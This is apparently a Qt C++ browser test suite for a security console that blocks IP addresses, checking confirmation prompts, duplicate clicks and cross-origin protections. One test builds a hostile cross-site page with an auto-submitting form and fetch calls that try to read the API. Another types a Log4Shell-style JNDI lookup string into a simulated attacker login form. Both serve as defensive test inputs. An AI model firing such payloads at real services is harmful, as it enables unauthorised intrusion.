#include "support_browser.h"
#include "support_press.h"

#include <QTest>
#include <QUrlQuery>

using namespace sandtable::test;
using namespace Qt::StringLiterals;

/// Presses the links and buttons of the pages with real browsers on the console's own machine.
class BrowserTest : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void aClickOnTheAlertsLinkBlocks_data() { Browsers::addRows(); }
    void aClickOnTheAlertsLinkBlocks();
    void anUnsignedLinkActsWhereItIsOpened_data() { Browsers::addRows(); }
    void anUnsignedLinkActsWhereItIsOpened();
    void anUnsignedLinkOfAWebPageAsks_data() { Browsers::addRows(); }
    void anUnsignedLinkOfAWebPageAsks();
    void twoTapsOnTheButtonAreOne_data() { Browsers::addRows(); }
    void twoTapsOnTheButtonAreOne();
    void pagesOfOthersReachNothing_data() { Browsers::addRows(); }
    void pagesOfOthersReachNothing();
    void theLoginFormLaunchesTheAttack_data() { Browsers::addRows(); }
    void theLoginFormLaunchesTheAttack();

private:
    [[nodiscard]] QString freshAddress() { return u"192.0.2.%1"_s.arg(++m_last); }
    [[nodiscard]] QJsonObject state()
    {
        return ask("GET", m_program->callback(u"/api/v1/state"_s), bearer(m_program->value("api_token")))
            .object();
    }
    std::unique_ptr<ServedProgram> m_program;
    Browsers m_browsers;
    int m_last = 0;
};

void BrowserTest::initTestCase()
{
    m_program = std::make_unique<ServedProgram>();
    QVERIFY2(m_program->isReady(), m_program->errors().constData());
}

void BrowserTest::aClickOnTheAlertsLinkBlocks()
{
    TAKE_BROWSER(browser, m_browsers);
    const QUrl link = alertedLink(*m_program);
    const QString address = QUrlQuery(link).queryItemValue(u"ip"_s);
    QVERIFY(!address.isEmpty());
    tapBlocks(*m_program, browser, link, address);
}

void BrowserTest::anUnsignedLinkActsWhereItIsOpened()
{
    TAKE_BROWSER(browser, m_browsers);
    const QString address = freshAddress();
    browser.open(m_program->callback(u"/block?ip="_s + address));
    QVERIFY(eventually([&] { return browser.text(u"#progress"_s).contains(u"Blocked"_s); }));
    QCOMPARE(ordersFor(*m_program, address), 1);
}

void BrowserTest::anUnsignedLinkOfAWebPageAsks()
{
    TAKE_BROWSER(browser, m_browsers);
    const QString address = freshAddress();
    ChatPage chat(m_program->callback(u"/block?ip="_s + address));
    browser.open(chat.url());
    QVERIFY(browser.click(u"#link"_s));
    QVERIFY(eventually([&] { return browser.has(u"form button"_s); }));
    QCOMPARE(ordersFor(*m_program, address), 0);
    QVERIFY(browser.click(u"form button"_s));
    QVERIFY(eventually([&] { return browser.text(u"#progress"_s).contains(u"Blocked"_s); }));
    QVERIFY(m_program->feed().contains(address.toLatin1()));
    QCOMPARE(ordersFor(*m_program, address), 1);
}

void BrowserTest::twoTapsOnTheButtonAreOne()
{
    TAKE_BROWSER(browser, m_browsers);
    const QString address = freshAddress();
    ChatPage chat(m_program->callback(u"/block?ip="_s + address));
    browser.open(chat.url());
    QVERIFY(browser.click(u"#link"_s));
    QVERIFY(eventually([&] { return browser.has(u"form button"_s); }));
    QVERIFY(browser.click(u"form button"_s, 3));
    QVERIFY(eventually([&] { return browser.text(u"#progress"_s).contains(u"Blocked"_s); }));
    QCOMPARE(browser.text(u"h1"_s), address);
    QCOMPARE(ordersFor(*m_program, address), 1);
}

void BrowserTest::pagesOfOthersReachNothing()
{
    TAKE_BROWSER(browser, m_browsers);
    const QString address = freshAddress();
    const QString other = freshAddress();
    const QString origin = m_program->value("callback");
    const QString link = origin + u"/block?ip="_s + address;
    // Everything that another site's page can do on its own: picture, frame, script, style, prefetch, a form
    // that sends itself, and scripts that try to read the page with the token and the API.
    const QString html =
        u"<!doctype html><title>evil</title><link rel=\"prefetch\" href=\"%1\"><link rel=\"stylesheet\" "
        "href=\"%1\"><img src=\"%1\"><iframe name=\"f\" src=\"%1\"></iframe><script src=\"%1\"></script>"
        "<iframe name=\"g\"></iframe><form id=\"x\" target=\"g\" method=\"post\" action=\"%2/block\"><input "
        "name=\"ip\" value=\"%3\"><input name=\"token\" value=\"guess\"></form><script>window.seen=[];"
        "x.submit();"
        "Promise.allSettled(['/','/block?ip=%3','/api/v1/state','/api/v1/health'].map(p=>fetch('%2'+p).then("
        "r=>r.text()).then(t=>seen.push(t)))).then(()=>setTimeout(()=>{let framed='';try{framed="
        "frames.f.document.body.innerText}catch(e){framed='closed'};window.done='read '+seen.length+', "
        "framed '+framed},300));</script>"_s.arg(link, origin, other);
    ChatPage evil(html.toUtf8());
    browser.open(evil.url());
    const auto done = [&] { return browser.value(u"(window.wrappedJSObject ?? window).done"_s); };
    QVERIFY(eventually([&] { return done().startsWith(u"read"_s); }));
    QCOMPARE(done(), u"read 0, framed closed"_s);
    QCOMPARE(ordersFor(*m_program, address) + ordersFor(*m_program, other), 0);
}

void BrowserTest::theLoginFormLaunchesTheAttack()
{
    TAKE_BROWSER(browser, m_browsers);
    static_cast<void>(
        ask("POST", m_program->callback(u"/api/v1/reset"_s), bearer(m_program->value("api_token"))));
    browser.open(m_program->callback(u"/hacker"_s));
    QVERIFY(browser.type(u"#username"_s, u"${jndi:ldap://typed.example/x}"_s));
    QVERIFY(browser.click(u"button"_s));
    QVERIFY(eventually([&] { return state().value(u"stage"_s).toString() != u"idle"; }));
    QVERIFY(eventually([&] { return browser.has(u".button"_s); }));
    QVERIFY(browser.click(u".button"_s));
    QVERIFY(
        eventually([&] { return browser.text(u"#progress"_s).contains(u"attack"_s, Qt::CaseInsensitive); }));
}

QTEST_GUILESS_MAIN(BrowserTest)
#include "tst_browser.moc"
